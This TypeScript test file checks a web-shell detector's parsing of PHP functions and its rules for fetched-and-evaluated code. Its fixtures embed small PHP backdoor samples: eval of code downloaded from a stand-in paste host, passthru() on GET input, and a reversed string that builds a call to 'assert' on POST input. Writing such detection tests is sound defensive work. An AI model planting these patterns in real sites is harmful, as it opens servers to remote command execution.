/**
 * The page's own functions read by their bodies (code-text.ts's ownFunctions), not by a
 * window of characters after their names: what the downloaded-code, socket, wrapper and
 * writable-folder rules ask of "a function of the page's own".
 */
import { describe, expect, it } from 'vitest';
import { ownFunctions } from '../../src/findings/web-shell/code-text.js';
import { downloadedCode } from '../../src/findings/web-shell/downloaded-code.js';
import { topFinding } from '../support/top-finding.js';

describe('ownFunctions', () => {
  it('gives each named function its parameters and its body, to the matching brace', () => {
    const text = `<?php
interface Getter { function get($u); }
function get($url, $opts = array()) { if ($opts) { $x = 1; } return curl_exec($url); }
Function Shout($s) { echo strtoupper($s); }`;
    const found = ownFunctions(text);
    // The interface's declaration has no body: the next function's is not lent to it.
    expect(found.map((f) => f.name)).toEqual(['get', 'Shout']);
    expect(found[0]).toMatchObject({ params: '$url, $opts = array(' });
    expect(found[0]!.body).toBe('{ if ($opts) { $x = 1; } return curl_exec($url); ');
    expect(text[found[0]!.end]).toBe('}');
  });

  it('bounds what it reads: a body to maxBody characters, functions to limit', () => {
    const many = Array.from({ length: 50 }, (_, i) => `function f${i}() { return ${i}; }`).join(
      '\n',
    );
    expect(ownFunctions(many, 10)).toHaveLength(10);
    const long = `function big() {${' '.repeat(10_000)}}`;
    expect(ownFunctions(long, 10, 100)[0]!.body.length).toBeLessThan(100);
  });
});

describe('downloaded code, through a fetching function of the page', () => {
  const padding = `  // ${'.'.repeat(900)}\n`;
  it('finds a fetch far into a long function, and not in the function after a short one', () => {
    const long = `<?php
function grab($u) {
${padding}  $c = curl_init($u); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); return curl_exec($c);
}
eval('?>' . grab('https://paste.example/raw/x'));`;
    expect(downloadedCode(long).isRun).toBe(true);
    // A formatter followed by a fetcher: the formatter fetches nothing, whatever is near it.
    const near = `<?php
function label($s) { return ucfirst($s); }
function fetchNews($u) { return file_get_contents($u); }
eval(label('https://cdn.example/app.js'));`;
    expect(downloadedCode(near).isRun).toBe(false);
  });
});

describe('request input given to any parameter of a function of the page', () => {
  it('follows the input into the parameter it is given, wherever that parameter stands', () => {
    // The callee worked out from another parameter, the input in the second place.
    const chosen = `<?php\nfunction y($b, $c) { $f = strrev($b); $f($c); }\ny('tressa', $_POST['x']);\n`;
    expect(topFinding('/opt/x/y.php', chosen)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/chosen at run time called on request input.*through y\(\)/),
    });
    const second = `<?php\nfunction run($label, $c) { echo $label; passthru($c); }\nrun('out', $_GET['c']);\n`;
    expect(topFinding('/opt/x/r.php', second)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/passthru\(\) on request input, through run\(\)/),
    });
  });

  it('leaves a callback parameter its caller chose, and a parameter the request never reaches', () => {
    // DokuWiki's media_upload_finish(): `$move` is move_uploaded_file() unless a caller says.
    const callback = `<?php\nfunction finish($tmp, $fn, $move = 'move_uploaded_file') { if ($move($tmp, $fn)) return true; }\nfinish($_FILES['u']['tmp_name'], '/srv/media/a.png');\n`;
    expect(topFinding('/var/www/html/m.php', callback)?.severity ?? 'info').not.toMatch(
      /critical|high/,
    );
    const unreached = `<?php\nfunction y($b, $c) { $f = strrev($b); $f($c); }\n$id = (int) $_GET['id'];\ny('tnirp', 'hello');\n`;
    expect(topFinding('/var/www/html/y.php', unreached)?.reason ?? '').not.toMatch(/through y\(\)/);
    // A filter chain over the function's own list, and hooks a registry holds.
    const chain = `<?php\nfunction clean($s) { foreach (array('trim', 'strip_tags') as $f) { $s = $f($s); } return $s; }\necho clean($_POST['name']);\n`;
    const hooks = `<?php\nfunction apply_hooks($name, $value) { foreach ($GLOBALS['hooks'][$name] as $cb) { $value = $cb($value); } return $value; }\necho apply_hooks('title', $_GET['q']);\n`;
    for (const [name, text] of [
      ['c.php', chain],
      ['h.php', hooks],
    ] as const)
      expect(topFinding(`/var/www/html/${name}`, text)?.severity ?? 'info').not.toMatch(
        /critical|high/,
      );
  });

  it('counts parameters past a default holding a comma, and shows no key of the callee but words', () => {
    const text = `<?php\nfunction y($sep = ',', $b = 'x', $c = '') { $f = strrev($b); $f($c); }\ny(';', 'tressa', $_POST['x']);\n`;
    expect(topFinding('/opt/x/y.php', text)?.reason).toMatch(/through y\(\)/);
    const key = `<?php\nfunction y($b, $c) { $f = array("\\x1b[2J" => strrev($b)); $f["\\x1b[2J"]($c); }\ny('tressa', $_POST['x']);\n`;
    const reason = topFinding('/opt/x/k.php', key)?.reason ?? '';
    expect(reason).toMatch(/\$f\[…\]/);
    expect(reason).not.toMatch(/2J/);
  });
});
